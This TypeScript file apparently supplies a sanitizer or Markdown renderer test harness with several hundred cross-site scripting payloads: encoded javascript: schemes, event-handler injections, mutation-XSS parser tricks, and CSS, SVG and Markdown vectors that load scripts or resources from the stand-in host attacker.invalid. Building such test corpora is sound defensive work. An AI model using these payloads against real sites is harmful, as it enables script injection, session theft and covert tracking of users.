/** Markup that tries to run script or to reach the network: several hundred ways, for every place where words of the user are shown. */

/** Set or counted by whatever runs; the harness page watches both. */
const run = 'alert(1)';
const away = 'https://attacker.invalid';

const encodedSchemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106;avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'java&#x0A;script:',
  'java&#13;script:',
  '&#1;javascript:',
  '&#xFEFF;javascript:',
  'javascript&#0058',
  '\u00a0javascript:',
  '\u2028javascript:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
  'vbscript:',
  'livescript:',
  'data:text/html,<script>alert(1)</script>//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
  'data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>#',
  'blob:https://attacker.invalid/',
  'filesystem:https://attacker.invalid/',
  'file:///etc/passwd#',
  '//attacker.invalid/',
  '/\\attacker.invalid/',
  'https:attacker.invalid/',
  'http://attacker.invalid/',
  'intent://attacker.invalid#'
];

const loading = [
  (handler: string) => `<img src=x ${handler}="${run}">`,
  (handler: string) => `<svg ${handler}="${run}"></svg>`,
  (handler: string) => `<body ${handler}="${run}">`,
  (handler: string) => `<input autofocus ${handler}="${run}">`,
  (handler: string) => `<details open ${handler}="${run}"><summary>x</summary></details>`,
  (handler: string) => `<video src=x ${handler}="${run}"></video>`,
  (handler: string) => `<p style="animation:a 1ms" ${handler}="${run}" tabindex=0>x</p>`
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onfocusin',
  'ontoggle',
  'onloadstart',
  'onanimationstart',
  'onanimationend',
  'onbegin',
  'onpageshow',
  'onscroll',
  'onmouseover',
  'onclick',
  'onpointerenter',
  'oncontentvisibilityautostatechange'
];

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script >${run}</script >`,
  `<script/x>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script src=${away}/x.js></script>`,
  `<script src=//attacker.invalid/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `\`><script>${run}</script>`,
  `<script>\u2028${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><script xlink:href="data:,${run}"/></svg>`,
  `<math><script>${run}</script></math>`,
  `{{constructor.constructor('${run}')()}}`,
  '${' + run + '}',
  `{@html "<img src=x onerror=${run}>"}`
];

const documents = [
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<frameset><frame src="${address}"></frameset>`,
  (address: string) => `<portal src="${address}"></portal>`,
  (address: string) => `<fencedframe src="${address}"></fencedframe>`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<link rel=stylesheet href="${address}">`,
  (address: string) => `<link rel=prefetch href="${address}">`,
  (address: string) => `<link rel=preconnect href="${address}">`,
  (address: string) => `<link rel=modulepreload href="${address}">`,
  (address: string) => `<link rel=import href="${address}">`,
  (address: string) => `<base href="${address}">`,
  (address: string) => `<a href="${address}" ping="${address}">x</a>`,
  (address: string) => `<form action="${address}"><input type=submit autofocus></form>`,
  (address: string) => `<form id=f></form><button form=f formaction="${address}">x</button>`,
  (address: string) => `<svg><a href="${address}"><text y=20>x</text></a></svg>`,
  (address: string) => `<svg><use href="${address}"/></svg>`,
  (address: string) => `<svg><image href="${address}"/></svg>`,
  (address: string) => `<svg><animate attributeName=href values="${address}"/></svg>`,
  (address: string) => `<math><maction xlink:href="${address}">x</maction></math>`,
  (address: string) => `<area href="${address}">`
];
const documentAddresses = [`javascript:${run}`, `data:text/html,<script>${run}</script>`, `${away}/d`];

const fetching = [
  `<img src="${away}/i">`,
  `<img srcset="${away}/i 1x">`,
  `<picture><source srcset="${away}/i"><img></picture>`,
  `<img src=x lowsrc=${away}/i dynsrc=${away}/i>`,
  `<video poster="${away}/p"></video>`,
  `<video src="${away}/v" autoplay></video>`,
  `<audio src="${away}/a" autoplay></audio>`,
  `<video><source src="${away}/s"><track default src="${away}/t"></video>`,
  `<input type=image src="${away}/i">`,
  `<body background="${away}/b">`,
  `<table background="${away}/b"><td background="${away}/b">x</table>`,
  `<style>@import url("${away}/c");</style>`,
  `<style>@import '${away}/c'</style>`,
  `<style>*{background:url(${away}/c)}</style>`,
  `<style>@font-face{font-family:x;src:url(${away}/f)}*{font-family:x}</style>`,
  `<style>:root{--x:url(${away}/v)}p{background:var(--x)}</style>`,
  `<p style="background:url(${away}/c)">x</p>`,
  `<p style="background:image-set('${away}/c' 1x)">x</p>`,
  `<p style="list-style:url(${away}/c);display:list-item">x</p>`,
  `<p style="content:url(${away}/c)">x</p>`,
  `<p style="cursor:url(${away}/c),auto">x</p>`,
  `<p style="border-image:url(${away}/c)">x</p>`,
  `<p style="filter:url(${away}/c#f)">x</p>`,
  `<p style="mask:url(${away}/c#m)">x</p>`,
  `<svg><style>@import url(${away}/c)</style></svg>`,
  `<svg><filter id=f><feImage href="${away}/f"/></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  `<svg><rect fill="url(${away}/f#x)" width=9 height=9 /></svg>`,
  `<svg><foreignObject><img src="${away}/i"></foreignObject></svg>`,
  `![x](${away}/markdown.png)`,
  `![x](${away}/markdown.png "onerror=${run}")`,
  `![x][r]\n\n[r]: ${away}/reference.png`,
  `<?xml-stylesheet href="${away}/c"?>`,
  `<!DOCTYPE x SYSTEM "${away}/d">`
];

/** What parses differently the second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}></style></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<div><template shadowrootmode=closed><script>${run}</script></template></div>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<form id=x><input name=attributes><input name=childNodes><img src=x onerror=${run}></form>`,
  `<form><input name=parentNode><input name=nodeName><img src=x onerror=${run}></form>`,
  `<img name=createElement><img name=currentScript><a id=defaultView>x</a>`,
  `<table><td><svg><desc><td></desc></svg><img src=x onerror=${run}></table>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=${run}></noscript></desc></svg>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<a id="x<!--"><img alt="--><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>--!>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<img \u0000src=x onerror\u0000=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror =${run}>`,
  `<img\fsrc=x\fonerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<x is=y onclick=${run} style=display:block>x</x>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributename=x to=y dur=1s>`,
  `<svg><animatetransform onbegin=${run} attributename=transform>`,
  `<svg><discard onbegin=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button popovertarget=p>x</button><p id=p popover onbeforetoggle=${run}>x</p>`
];

/** Markdown of its own: links in every form that could carry an address, and ways out of text, code and tables. */
const markdown = (scheme: string): string[] => [
  `[x](${scheme}${run})`,
  `[x](<${scheme}${run}>)`,
  `<${scheme}${run}>`,
  `[x][r${scheme.length}]\n\n[r${scheme.length}]: ${scheme}${run}`
];
const markdownTraps = [
  `[x](https://a.example/"onmouseover="${run})`,
  `[x](https://a.example 'x" onmouseover="${run}')`,
  `[x](https://a.example "x\\" onmouseover=\\"${run}")`,
  `[<img src=x onerror=${run}>](https://a.example)`,
  `[x](https://a.example/<script>${run}</script>)`,
  `https://a.example/"onmouseover="${run}`,
  `<https://a.example/"onmouseover=${run}>`,
  `\`<img src=x onerror=${run}>\``,
  `\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
  `    <script>${run}</script>`,
  `| <img src=x onerror=${run}> | b |\n|---|:-"onx="-:|\n| <script>${run}</script> | x |`,
  `# <img src=x onerror=${run}>`,
  `> <img src=x onerror=${run}>`,
  `- [x] <img src=x onerror=${run}>`,
  `1. <img src=x onerror=${run}>`,
  `**<img src=x onerror=${run}>**`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\<img src=x onerror=${run}>`,
  `<p>\n\n<script>${run}</script>\n\n</p>`,
  `<a@b.example"onmouseover="${run}>`,
  `[x](mailto:a@b.example?body="onmouseover="${run})`
];

/** Every payload once. */
export const hostileMarkup: readonly string[] = [
  ...new Set([
    ...scripts,
    ...handlers.flatMap((handler) => loading.map((element) => element(handler))),
    ...documents.flatMap((element) => documentAddresses.map(element)),
    ...encodedSchemes.map((scheme) => `<a href="${scheme}${run}">x</a>`),
    ...encodedSchemes.flatMap(markdown),
    ...fetching,
    ...mutations,
    ...markdownTraps
  ])
];

/** Pieces from which fuzzing puts documents together: Markdown's marks, HTML's, and what makes them dangerous. */
export const fragments: readonly string[] = [
  ...['<', '>', '"', "'", '`', '&', '#', '*', '_', '~', '[', ']', '](', '][', ')', '!', '|', '\\', '/', '=', ':', ';'],
  ...['\n', '\n\n', '  \n', '\t', '    ', '\r', '\u0000', '\u00a0', '\u2028', '\u202e', '\ud800', '😀', 'ß', ' '],
  ...['# ', '> ', '- ', '1. ', '- [x] ', '```', '~~~', '---', '|---|', '<!--', '-->', '<![CDATA[', ']]>', '<?', '?>'],
  ...['<a ', '<img ', '<svg', '<math', '<style', '<script', '</script>', '<template', '<noscript', '<iframe ', '<p>'],
  ...['<table>', '<mtext>', '<mglyph>', '<form ', '<base ', '<meta ', '</style>', '</noscript>', '</title>', '</svg>'],
  ...['href=', 'src=x ', 'style=', 'id=', 'class=', 'onerror=alert(1)', ' onload=alert(1) ', 'srcdoc=', 'xlink:href='],
  ...['javascript:alert(1)', 'data:text/html,', 'https://a.example', 'mailto:a@b.example', '//attacker.invalid/x'],
  ...[
    '&lt;',
    '&#60;',
    '&colon;',
    '&Tab;',
    '&#x6a;',
    '&quot;',
    'alert(1)',
    'a',
    'word ',
    '[r]: ',
    'url(//attacker.invalid)'
  ]
];
